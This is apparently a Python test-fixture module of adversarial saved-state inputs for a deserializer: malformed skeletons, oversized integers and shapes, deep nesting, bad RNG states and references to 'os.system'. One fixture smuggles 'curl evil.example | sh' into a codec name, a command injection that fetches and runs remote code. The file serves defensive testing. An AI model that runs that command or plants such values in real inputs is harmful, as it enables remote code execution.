"""Hostile state: skeletons that no program ever saves, in the place of its parts."""

from typing import Any, Final

RAW: Final = {"$": "raw", "key": "w"}
ARRAY: Final = {"$": "array", "key": "items.w"}


def wrapped(**parts: Any) -> dict[str, Any]:
    """Return what a container with things inside is stored as, with other parts."""
    return {"kind": "dict", "items": {}, "in_place": [], "kinds": []} | parts


SKELETONS: Final[dict[str, Any]] = {
    "null": None,
    "a number": 7,
    "a text": "x",
    "a list": [1, 2],
    "an empty object": {},
    "an array that is not there": {"$": "array", "key": "nowhere"},
    "a kind that is not there": {"$": "pickle", "data": "gASV"},
    "a class of the system": {"$": "dataclass", "class": "os:system", "fields": {"a": 1}},
    "a member of a class": {"$": "enum", "class": "os:system", "name": "x"},
    "a registered command": {"$": "registered", "name": "os.system", "tree": "id"},
    "a codec called like a module": {
        "$": "codec",
        "name": "os.system",
        "meta": {},
        "children": {},
    },
    "a codec to paste into a shell": {
        "$": "codec",
        "name": "x]'; curl evil.example | sh; '.y",
        "meta": {},
        "children": {},
    },
    "a codec with a long name": {
        "$": "codec",
        "name": "x" * 100_000,
        "meta": {},
        "children": {},
    },
    "a tensor of a foreign dtype": {
        "$": "codec",
        "name": "torch.tensor",
        "meta": {"dtype": "load"},
        "children": {},
    },
    "an integer of 40,000 digits": {"$": "int", "hex": "f" * 33_000},
    "a dict of giant keys": {"$": "dict", "items": [[{"$": "int", "hex": "f" * 33_000}, 1]]},
    "a range without an end": {"$": "range", "items": [0, {"$": "int", "hex": "f" * 99}, 1]},
    "tuples in tuples": {"$": "tuple", "items": [{"$": "tuple", "items": [[[[[1]]]]]}]},
    "200 levels": eval("[" * 90 + "{'a': [1]}" + "]" * 90),  # noqa: S307
    "a dtype without an end": {"$": "array", "key": "w", "descr": [[[[[[]]]]]], "shape": [1]},
    "a dtype of objects": {"$": "array", "key": "w", "descr": "|O", "shape": [1]},
    "a shape of giants": {"$": "array", "key": "w", "descr": "|u1", "shape": [10**30] * 60},
    "a shape of thousands": {"$": "array", "key": "w", "descr": "|u1", "shape": [10**30] * 9_999},
    "a wrapper without items": wrapped(items=5),
    "a wrapper of lists": wrapped(items=[1], in_place=[0], kinds=["ndarray"]),
    "a wrapper of lost keys": wrapped(in_place=["gone"], kinds=["dict"]),
    "a wrapper of odd kinds": wrapped(items={"a": 1}, in_place=["a"], kinds=[7]),
    "a wrapper of unlike lengths": wrapped(items={"a": 1}, in_place=["a"], kinds=[]),
    "a wrapper of unhashable keys": wrapped(items={"a": 1}, in_place=[["a"]], kinds=["dict"]),
    "a wrapper of an unknown kind": wrapped(items={"a": 1}, in_place=["a"], kinds=["os.system"]),
    "a wrapper of a wrapper": wrapped(items={"a": wrapped(items=3)}, in_place=["a"], kinds=["x"]),
    "a wrapper called something": wrapped(kind={"$": "tuple", "items": []}),
}


def mersenne(position: Any) -> dict[str, Any]:
    """Return the state of numpy's legacy generator, standing at `position`."""
    key = {"$": "array", "key": "key"}
    inner = {"key": key, "pos": position}
    return {"bit_generator": "MT19937", "state": inner, "has_gauss": 0, "gauss": 0.0}


# What stands in place of `run.rng`.
GENERATORS: Final[dict[str, Any]] = {
    "no mapping": 5,
    "python: a number": {"python": 5},
    "python: no words": {"python": [3, [], None]},
    "python: outside of its words": {"python": [3, [0] * 624 + [10**9], None]},
    "python: another version": {"python": [99, [0] * 625, None]},
    "numpy: a text": {"numpy": "MT19937"},
    "numpy: a tuple": {"numpy": {"$": "tuple", "items": ["MT19937", [0] * 624, 10**9]}},
    "numpy: an empty one": {"numpy": {}},
    "numpy: another one": {"numpy": {"bit_generator": "os.system", "state": {}}},
    "torch: a number": {"torch": 5},
    "torch: a list": {"torch": {"cpu": [1, 2], "cuda": []}},
}

# What stands in place of `run.position`.
POSITIONS: Final[dict[str, Any]] = {
    "no mapping": [1],
    "nothing": {},
    "an iteration before all": {"iteration": -1, "best_score": None, "stage": [0, 0]},
    "an iteration of text": {"iteration": "x", "best_score": None, "stage": [0, 0]},
    "a score of text": {"iteration": 1, "best_score": "high", "stage": [0, 0]},
    "a stage before all": {"iteration": 1, "best_score": None, "stage": [-1, 0]},
    "a stage behind all": {"iteration": 1, "best_score": None, "stage": [10**6, 10**6]},
    "a stage of text": {"iteration": 1, "best_score": None, "stage": "ab"},
    "a long stage": {"iteration": 1, "best_score": None, "stage": [0, 0, 0]},
    "stages of text": {"iteration": 1, "best_score": None, "stage": [0, 0], "stages": "ab"},
    "stages of numbers": {"iteration": 1, "best_score": None, "stage": [0, 0], "stages": [1]},
    "odd stages": {"iteration": 1, "best_score": None, "stage": [0, 0], "stages": [["a", "b"]]},
}
